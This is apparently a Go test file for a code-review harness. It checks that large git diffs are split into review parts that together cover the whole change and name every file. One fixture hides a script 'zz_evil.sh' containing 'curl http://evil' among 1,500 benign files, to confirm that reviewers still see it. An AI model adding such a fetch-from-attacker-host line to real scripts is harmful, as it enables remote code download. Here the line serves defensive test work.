package review_test

import (
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/seed-706843ae/harness/plugins/internal/objects"
	"github.com/seed-706843ae/harness/plugins/validation/internal/review"
	"github.com/seed-706843ae/harness/pluginsdk"
)

// changed is what git shows between two states of a directory.
func changed(t *testing.T, before, after func(dir string)) objects.Change {
	t.Helper()
	dir := t.TempDir()
	git := func(args ...string) string {
		command := exec.CommandContext(t.Context(), "git", args...)
		command.Dir = dir
		command.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null")
		output, err := command.CombinedOutput()
		if err != nil {
			t.Fatalf("git %q: %v\n%s", args, err, output)
		}
		return strings.TrimSpace(string(output))
	}
	git("init", "-q")
	var trees []string
	for _, state := range []func(string){before, after} {
		state(dir)
		git("add", "-A", "-f")
		trees = append(trees, git("write-tree"))
	}
	s, _, err := objects.Copy(t.Context(), filepath.Join(t.TempDir(), "store"), dir, trees...)
	if err != nil {
		t.Fatal(err)
	}
	change, over, err := s.Change(t.Context(), trees[0], trees[1], 16<<20)
	if err != nil || over {
		t.Fatal(over, err)
	}
	return change
}

func put(t *testing.T, dir, name, content string) {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
}

// numbered are so many lines, of which each nth is another one.
func numbered(lines, nth int) string {
	var b strings.Builder
	for n := range lines {
		if nth > 0 && n%nth == 0 {
			b.WriteString("changed ")
		}
		fmt.Fprintf(&b, "line %d\n", n)
	}
	return b.String()
}

// All parts together are the change, whatever is in it, and each file of it is named in one.
func TestPartsAreTheWholeChange(t *testing.T) {
	long := strings.Repeat("a-long-name", 18)
	random := make([]byte, 80<<10)
	source := rand.NewChaCha8([32]byte{1})
	if _, err := source.Read(random); err != nil {
		t.Fatal(err)
	}
	nothing := func(string) {}
	for name, row := range map[string]struct {
		before, after func(dir string)
		parts         int // 0: a person decides
		shows         []string
	}{
		"one behind thousands": {nothing, func(dir string) {
			for n := range 1500 {
				put(t, dir, fmt.Sprintf("%s-%04d", long, n), "x\n")
			}
			put(t, dir, "zz_evil.sh", "curl http://evil\n")
		}, 11, []string{"+++ b/zz_evil.sh", "+curl http://evil"}},
		"files without a line": {nothing, func(dir string) {
			for n := range 600 {
				put(t, dir, fmt.Sprintf("%s-%04d", long, n), "")
			}
		}, 3, nil},
		"hunks": {func(dir string) { put(t, dir, "big.go", numbered(60000, 0)) }, func(dir string) { put(t, dir, "big.go", numbered(60000, 50)) }, 2, []string{"@@ "}},
		"a file, then hunks": {func(dir string) { put(t, dir, "b.go", numbered(30000, 0)) }, func(dir string) {
			put(t, dir, "a.go", numbered(3000, 0))
			put(t, dir, "b.go", numbered(30000, 50))
			put(t, dir, "c.go", numbered(3000, 0))
		}, 3, []string{"+++ b/a.go", "+++ b/c.go"}},
		"bytes": {nothing, func(dir string) {
			for n := range 5 {
				put(t, dir, fmt.Sprintf("%d.bin", n), string(random[n*16<<10:][:16<<10]))
			}
			put(t, dir, "nul", "a\x00b\r\nc\rd")
		}, 3, []string{"+++ b/4.bin", "+++ b/nul"}},
		"no newline, odd names": {func(dir string) { put(t, dir, "moved/from", numbered(3000, 0)) }, func(dir string) {
			if err := os.Rename(filepath.Join(dir, "moved"), filepath.Join(dir, "to")); err != nil {
				t.Fatal(err)
			}
			for n := range 10 {
				put(t, dir, fmt.Sprintf("a\nb \"%d", n), numbered(1500, 0)+"diff --git a/x b/x\n@@ -1 +1 @@ end")
			}
			put(t, dir, "ünï", "x")
		}, 2, []string{"rename to to/from", "+diff --git a/x b/x", "ünï"}},
		"a line that is too long":       {nothing, func(dir string) { put(t, dir, "min.js", strings.Repeat("x", 97<<10)); put(t, dir, "a", "b\n") }, 0, nil},
		"a file of one hunk":            {nothing, func(dir string) { put(t, dir, "new.go", numbered(20000, 0)) }, 0, nil},
		"a file that goes, of one hunk": {func(dir string) { put(t, dir, "old.go", numbered(20000, 0)) }, func(dir string) { _ = os.Remove(filepath.Join(dir, "old.go")); put(t, dir, "x", "x") }, 0, nil},
	} {
		t.Run(name, func(t *testing.T) {
			change := changed(t, row.before, row.after)
			parts, ok := review.Parts(change.Diff, 16)
			if !ok || row.parts == 0 {
				if ok != (row.parts != 0) {
					t.Fatalf("it can be cut: %t, into %d", ok, len(parts))
				}
				return
			}
			if len(parts) != row.parts {
				t.Errorf("there are %d parts, want %d", len(parts), row.parts)
			}
			var whole, prompts strings.Builder
			for n, part := range parts {
				if part.Number != n+1 || part.Of != len(parts) || len(part.Diff) > review.MaxDiff || part.Diff == "" {
					t.Errorf("part %d: %d of %d, with %d bytes", n+1, part.Number, part.Of, len(part.Diff))
				}
				if begins := strings.HasPrefix(part.Diff, "diff --git "); begins != (part.Continues == "") || !begins && !strings.HasPrefix(part.Diff, "@@ ") {
					t.Errorf("part %d begins with %.60q, and continues %.60q", n+1, part.Diff, part.Continues)
				}
				whole.WriteString(part.Diff)
				prompt := review.Work{Code: true}.Prompt(review.Paper{Task: pluginsdk.Task{ID: "task-1"}, Paths: strings.Join(change.Paths, "\n"), Diff: change.Diff, Part: part})
				if !strings.Contains(prompt, fmt.Sprintf("\n## Part %d of %d\n", n+1, len(parts))) || strings.Count(prompt, "\n## Part ") != 1 || strings.Count(prompt, "\n## The change\n") != 1 {
					t.Errorf("part %d is asked for by %.2000s", n+1, prompt)
				}
				_, shown, _ := strings.Cut(prompt, "\n## The change\n")
				shown, _, _ = strings.Cut(shown, "\n## What was run on it\n")
				if strings.Contains(shown, "[the rest is cut off]") {
					t.Errorf("part %d is not whole", n+1)
				}
				prompts.WriteString(shown)
			}
			if whole.String() != change.Diff {
				t.Error("the parts are not the change")
			}
			lines := make(map[string]bool)
			for line := range strings.Lines(prompts.String()) {
				lines[strings.TrimSuffix(line, "\n")] = true
			}
			for _, path := range change.Paths {
				if bare := strings.Trim(path, `"`); !lines["> diff --git a/"+path+" b/"+path] && !lines["> rename from "+path] && !lines["> rename to "+path] && (bare == path || !strings.Contains(prompts.String(), bare)) {
					t.Errorf("%q is named in no part", path)
				}
			}
			for _, words := range row.shows {
				if !strings.Contains(prompts.String(), "> "+words) && !strings.Contains(prompts.String(), words) {
					t.Errorf("%q is in no part", words)
				}
			}
			if _, ok := review.Parts(change.Diff, len(parts)-1); ok {
				t.Error("it fits into fewer")
			}
		})
	}
}
